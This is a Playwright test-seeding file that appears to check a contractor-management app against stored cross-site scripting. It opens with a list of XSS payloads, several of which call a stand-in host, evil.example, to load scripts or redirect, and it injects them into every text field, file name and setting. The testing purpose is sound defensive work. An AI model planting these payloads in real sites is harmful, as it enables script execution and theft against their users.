import { type APIRequestContext, expect, test } from '@playwright/test';

import { draftInvoice, issueInvoice, LABOR } from './drafted-invoice.ts';
import type { MadeRecords } from './made-records.ts';
import { makeMany } from './panel.ts';
import { csvFile, uploadPriceFile } from './price-file.ts';
import { recordPayment } from './recorded-payment.ts';
import { recordTransfer, renameLastAccount } from './recorded-transfer.ts';
import { askForPrices, returnGoods, sendOrder } from './sent-order.ts';
import { signBathroom } from './signed-bathroom.ts';

/**
 * What somebody types who wants a script to run: each way into HTML, attributes, addresses, styles, scripts and
 * templates. Whatever runs says so in `__ran`, opens a dialog, or asks another host.
 */
export const scripts: readonly string[] = [
  '<script>window.__ran=1</script>',
  '<img src=x onerror=alert(window.__ran=1)>',
  '"><svg onload=alert(window.__ran=1)>',
  "'><svg/onload=alert(window.__ran=1)>",
  '</script><script>window.__ran=1</script>',
  '</title><script src=//evil.example/__ran.js></script>',
  '</textarea><img src=//evil.example/__ran onerror=alert(1)>',
  '</style><style>@import "//evil.example/__ran.css";</style>',
  '--><script>window.__ran=1</script><!--',
  ']]><script>window.__ran=1</script>',
  'javascript:alert(window.__ran=1)',
  'JaVaScRiPt:window.__ran=1',
  'java&#x0A;script:alert(window.__ran=1)',
  'data:text/html,<script>window.__ran=1</script>',
  '<a href="javascript:window.__ran=1" autofocus onfocus=this.click()>x</a>',
  '<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>',
  '<iframe src="javascript:parent.__ran=1"></iframe>',
  '<details open ontoggle=alert(window.__ran=1)>x</details>',
  '<video><source onerror=alert(window.__ran=1)></video>',
  '<math><mtext></p><img src=x onerror=alert(window.__ran=1)></mtext></math>',
  '<svg><animate onbegin=alert(window.__ran=1) attributeName=x dur=1s>',
  '<form action=//evil.example/__ran><input autofocus onfocus=this.form.submit()></form>',
  '<meta http-equiv=refresh content="0;url=//evil.example/__ran">',
  '<base href=//evil.example/__ran/>',
  '<link rel=stylesheet href=//evil.example/__ran.css>',
  '<object data=//evil.example/__ran></object>',
  '" onmouseover=alert(window.__ran=1) autofocus onfocus=alert(1) x="',
  "' style='background:url(//evil.example/__ran)' x='",
  '{{constructor.constructor("window.__ran=1")()}}',
  '${window.__ran=1}<%=window.__ran=1%>#{window.__ran=1}',
  '&lt;img src=x onerror=alert(window.__ran=1)&gt;',
  '\\u003cimg src=x onerror=alert(window.__ran=1)\\u003e',
];
/** Counts the attempts of a test, whose records stay: what must be unique differs between them. */
const attempt = () => test.info().retry;
const at = (index: number): string =>
  (scripts[index % scripts.length] ?? '') + (attempt() > 0 ? ` ${attempt()}` : '');
const year = (row: number) => 2000 + attempt() * scripts.length + row;
/** An address is held to a form that leaves little room. */
const email = (index: number) => `'onload'+__ran-${attempt()}-${index}@example.com`;

interface FieldSchema {
  type?: string;
  enum?: unknown[];
  format?: string;
  pattern?: string;
  maxLength?: number;
  anyOf?: FieldSchema[];
}
interface Body {
  schema: { properties: Record<string, FieldSchema> };
  example: Record<string, unknown>;
}

/** The call's example with scripts in each field that takes a text, all of them where there is room. */
function filled({ schema, example }: Body, row: number): Record<string, unknown> {
  const texts = Object.entries(schema.properties).flatMap(([name, field], column) => {
    const whole = field.anyOf?.find(({ type }) => type === 'string') ?? field;
    const { maxLength = 0, enum: choices } = whole;
    const format = whole.format ?? field.format;
    const pattern = whole.pattern ?? field.pattern ?? '';
    if (whole.type !== 'string' || choices) return [];
    if (format === 'email') return [[name, email(row)]];
    if (pattern.includes('[Hh][Tt]')) return [[name, `https://evil.example/${row}`]];
    if (format !== undefined || !['', '\\S'].includes(pattern)) return [];
    const all = scripts.join(' ');
    return [[name, maxLength >= all.length ? `${at(row)} ${all}` : at(row + column)]];
  });
  return { ...example, ...Object.fromEntries(texts) };
}

const dot = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
  'base64',
);

/**
 * The number of records that the test makes at the same time. The parts of an estimate wait for the lock of their
 * estimate. The server refuses a call that has waited for two seconds, and the last of all parts would wait for longer.
 */
const AT_ONCE = 5;

/** One page shows no more than eight of what it may have any number of: all the same each holds every script. */
const together = (all: number[], row: number) => all[row < 8 ? 0 : row];

/** Puts each script into each text field of each kind of record, a record for every script. */
export async function typeScripts(request: APIRequestContext): Promise<MadeRecords> {
  const { paths } = (await (await request.get('/api/openapi.json')).json()) as {
    paths: Record<
      string,
      Record<string, { requestBody: { content: { 'application/json': Body } } } | undefined>
    >;
  };
  const bodyOf = (path: string, method = 'post') => {
    const body = paths[path]?.[method]?.requestBody.content['application/json'];
    if (!body) throw new Error(`Not in the document: ${method} ${path}`);
    return body;
  };
  /** The new records' ids, in the order of their scripts. */
  const make = async (
    path: string,
    others: (row: number) => Record<string, unknown> = () => ({}),
    count = scripts.length,
  ): Promise<number[]> =>
    makeMany(
      count,
      async (row) => {
        const answer = await request.post(path, {
          data: { ...filled(bodyOf(path), row), ...others(row) },
          // Of leads five are taken from one address.
          headers: { 'x-forwarded-for': `198.18.0.${row + 1}` },
        });
        expect(answer.status(), `${path} ${await answer.text()}`).toBe(201);
        return ((await answer.json()) as { id: number }).id;
      },
      AT_ONCE,
    );

  const properties = await make('/api/admin/properties');
  const types = await make('/api/admin/project-types');
  const projects = await make('/api/admin/projects', (row) => ({
    propertyId: together(properties, row),
    projectTypeId: types[row],
  }));
  const tasks = await make('/api/admin/project-tasks', (row) => ({
    projectId: together(projects, row),
    // The local date as `2026-03-04`, so that the calendar shows them. The list of all tasks begins with the oldest.
    dueOn: row === 0 ? '1900-01-01' : new Date().toLocaleDateString('en-CA'),
  }));
  const [task = 0] = tasks;
  const categories = await make('/api/admin/product-categories');
  const products = await make('/api/admin/products');
  const [taskProduct = 0] = await make('/api/admin/task-products', (row) => ({
    taskId: together(tasks, row),
    productId: products[row],
  }));
  // For the screen of deleted records.
  for (const id of await make('/api/admin/products'))
    expect((await request.delete(`/api/admin/products/${id}`)).status()).toBe(204);
  const [subcontractor = 0] = await make('/api/admin/subcontractors');
  const [costCode = 0] = await make('/api/admin/cost-codes', (row) => ({ code: `0${attempt()}-${row}` }));
  const [assembly = 0] = await make('/api/admin/assemblies', (row) => ({
    inputs: [{ name: 'length', unit: at(row) }],
    items: [
      { kind: 'other', name: at(row), description: at(row + 1), unit: at(row + 2), quantityFormula: '2' },
    ],
  }));
  const [taxRate = 0] = await make('/api/admin/tax-rates', (row) => ({
    state: 'OH',
    rate: 0.07,
    effectiveFrom: `${year(row)}-01-01`,
  }));
  const suppliers = await make('/api/admin/suppliers', () => ({ website: 'evil.example' }));
  const [supplierBranch = 0] = await make('/api/admin/supplier-branches', (row) => ({
    supplierId: together(suppliers, row),
    zipAreas: null,
    deliversOn: null,
  }));
  const [supplierProduct = 0] = await make('/api/admin/supplier-products', (row) => ({
    supplierId: together(suppliers, row),
    productId: together(products, row),
    // Where two of the units are the same, any other ratio between them contradicts that.
    contentQuantity: null,
    priceQuantity: 1,
  }));
  const priceFile = await checkedPriceFile(request, suppliers[0] ?? 0);
  const [order = 0] = await make('/api/admin/purchase-orders', (row) => ({
    projectId: together(projects, row),
    supplierId: together(suppliers, row),
    branchId: null,
    mode: 'delivery',
    needBy: null,
    windowStart: '07:00',
    windowEnd: '09:00',
  }));
  const ordered = await request.put(`/api/admin/purchase-orders/${order}/lines`, {
    data: {
      lines: scripts.map((description, row) => ({
        description,
        sku: at(row + 1),
        orderUnit: at(row + 2),
        quantity: 1,
        unitCost: 1,
      })),
    },
  });
  expect(ordered.status(), await ordered.text()).toBe(200);
  const { delivery } = await sendOrder(request, {
    projectId: projects[0] ?? 0,
    supplierId: suppliers[0] ?? 0,
    descriptions: scripts,
  });
  const [materialRequest = 0] = await make('/api/admin/material-requests', (row) => ({
    projectId: projects[0] ?? 0,
    taskId: null,
    productId: null,
    needBy: null,
    text: at(row),
    quantity: 1,
    unit: at(row + 1),
    note: at(row + 2),
  }));
  await renameLastAccount(request, at(4));
  const recorded = await recordTransfer(request, { reference: at(5), note: scripts.join(' ') });
  const supplierReturn = await returnGoods(request, {
    projectId: projects[0] ?? 0,
    supplierId: suppliers[0] ?? 0,
    descriptions: scripts,
    note: at(0),
  });
  const priceRequest = await askForPrices(request, { projects, products, suppliers, note: at(0) });
  const [stateRule = 0] = await make('/api/admin/state-rules', (row) => ({
    state: 'OH',
    kind: 'notice',
    shareNumerator: null,
    shareDenominator: null,
    propertyTypes: null,
    effectiveFrom: `${year(row)}-01-01`,
    checkedOn: '2026-01-01',
  }));
  const [estimate = 0] = await make('/api/admin/estimates', (row) => ({
    projectId: together(projects, row),
    from: 'empty',
    copyOf: null,
  }));
  const scheduled = await request.put(`/api/admin/estimates/${estimate}/schedule`, {
    data: {
      rows: scripts.map((name, row) => ({
        name,
        ...(row < scripts.length - 1
          ? { trigger: 'on-approval', basis: 'percent', rate: 0.01 }
          : { trigger: 'on-completion', basis: 'remainder' }),
      })),
    },
  });
  expect(scheduled.status(), await scheduled.text()).toBe(200);
  const sections = await make('/api/admin/estimate-sections', () => ({ estimateId: estimate }));
  const ofEstimate = { estimateId: estimate, sectionId: sections[0] };
  const [estimateLine = 0] = await make('/api/admin/estimate-lines', () => ({
    ...ofEstimate,
    quantityFormula: null,
    costCodeId: null,
    optionId: null,
    productId: null,
    taskProductId: null,
    beforeId: null,
  }));
  await make('/api/admin/estimate-options', () => ({ estimateId: estimate, photoId: null }));
  // An estimate takes 20 adjustments.
  await make('/api/admin/estimate-adjustments', () => ({ estimateId: estimate, kind: 'fee' }), 20);
  // Only the signature of a client makes a contract. The screens that draw it draw each script of its changes.
  const { contractId: contract } = await signBathroom(request, { project: at(1) });
  const { payment } = await recordPayment(request, contract, { reference: at(3), note: scripts.join(' ') });
  const [changeOrder = 0] = await make('/api/admin/change-orders', () => ({ contractId: contract }));
  const changed = await request.put(`/api/admin/change-orders/${changeOrder}/lines`, {
    data: {
      lines: scripts.map((name, row) => ({
        changeType: 'add',
        name,
        unit: at(row + 1).slice(0, 20),
        section: at(row + 2),
        quantity: 1,
        unitCost: 1,
      })),
    },
  });
  expect(changed.status(), await changed.text()).toBe(200);
  const billed = { contractId: contract, message: scripts.join(' ') };
  const issuedInvoice = await issueInvoice(request, billed);
  const invoice = await draftInvoice(request, { ...billed, payments: [LABOR] });
  await make('/api/contact');
  const found = await request.get('/api/admin/leads?search=__ran&limit=1');
  const [{ id: lead } = { id: 0 }] = (await found.json()) as { id: number }[];
  const noted = await request.patch(`/api/admin/leads/${lead}`, { data: { notes: at(2) } });
  expect(noted.status(), await noted.text()).toBe(200);

  const [category = 0] = categories;
  await post(request, '/api/admin/task-product-categories', { taskId: task, productCategoryId: category });
  await post(request, `/api/admin/product-categories/${category}/project-types`, {
    projectTypeId: types[0],
  });
  for (const path of ['/api/admin/settings', '/api/admin/money-settings']) {
    const closedDays = scripts.map((name, row) => ({
      date: new Date(Date.UTC(2027, 0, row + 1)).toISOString().slice(0, 10),
      name,
    }));
    const settings = await request.patch(path, {
      data: { ...filled(bodyOf(path, 'patch'), 1), ...(path === '/api/admin/settings' && { closedDays }) },
    });
    expect(settings.status(), await settings.text()).toBe(200);
  }

  const rows = scripts.map((_, row) => row);
  const photos = await Promise.all(
    rows.map(async (row) => {
      const answer = await request.post('/api/admin/task-photos/upload', {
        multipart: {
          taskId: together(tasks, row) ?? 0,
          caption: at(row + 1),
          photo: { name: `${at(row)}.html`, mimeType: 'text/html', buffer: dot },
        },
      });
      expect(answer.status(), await answer.text()).toBe(201);
      return ((await answer.json()) as { id: number }).id;
    }),
  );

  // Who may come in is decided in the panel alone. A password takes a while to hash, so three scripts go with each.
  let admin = 0;
  for (const row of rows.filter((index) => index % 3 === 0)) {
    const person = { username: at(row), firstName: at(row + 1), lastName: at(row + 2), email: email(row) };
    const { result } = (await post(request, '/trpc/admins.create', person)) as {
      result: { data: { admin: { id: number } } };
    };
    admin = result.data.admin.id;
  }
  await makeMany(
    scripts.length,
    async (row) => post(request, '/trpc/apiKeys.create', { name: at(row), role: 'viewer' }),
    AT_ONCE,
  );
  return {
    property: properties[0] ?? 0,
    project: projects[0] ?? 0,
    projectType: types[0] ?? 0,
    task,
    product: products[0] ?? 0,
    category,
    taskProduct,
    photo: photos[0] ?? 0,
    subcontractor,
    costCode,
    assembly,
    taxRate,
    supplier: suppliers[0] ?? 0,
    supplierBranch,
    supplierProduct,
    priceFile,
    order,
    delivery,
    priceRequest,
    supplierReturn,
    ...recorded,
    payment,
    invoice,
    issuedInvoice,
    materialRequest,
    stateRule,
    estimate,
    estimateLine,
    contract,
    changeOrder,
    lead,
    admin,
  };
}

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** A price file with a script in each text, whose rows its check has looked at. */
async function checkedPriceFile(request: APIRequestContext, supplierId: number): Promise<number> {
  const rows = scripts.map((sku, row) => [sku, at(row + 1), at(row + 2), at(row + 3)].map(quoted).join(','));
  const header = ['SKU', 'Description', 'Price', at(1)].map(quoted).join(',');
  const file = csvFile(`${at(0).replaceAll('/', '')}.csv`, [header, ...rows].join('\n'));
  const id = await uploadPriceFile(request, supplierId, file);
  const columns = ['sku', 'description', 'price'].map((means, place) => ({ at: place, means }));
  await post(request, `/api/admin/price-files/${id}/mapping`, { mapping: { headerLine: 1, columns } });
  const read = async () => (await (await request.get(`/api/admin/price-files/${id}`)).json()) as object;
  await expect.poll(read).toMatchObject({ status: 'checked' });
  return id;
}

async function post(
  request: APIRequestContext,
  path: string,
  data: Record<string, unknown>,
): Promise<unknown> {
  const answer = await request.post(path, { data });
  expect(answer.ok(), `${path} ${await answer.text()}`).toBe(true);
  return answer.json();
}
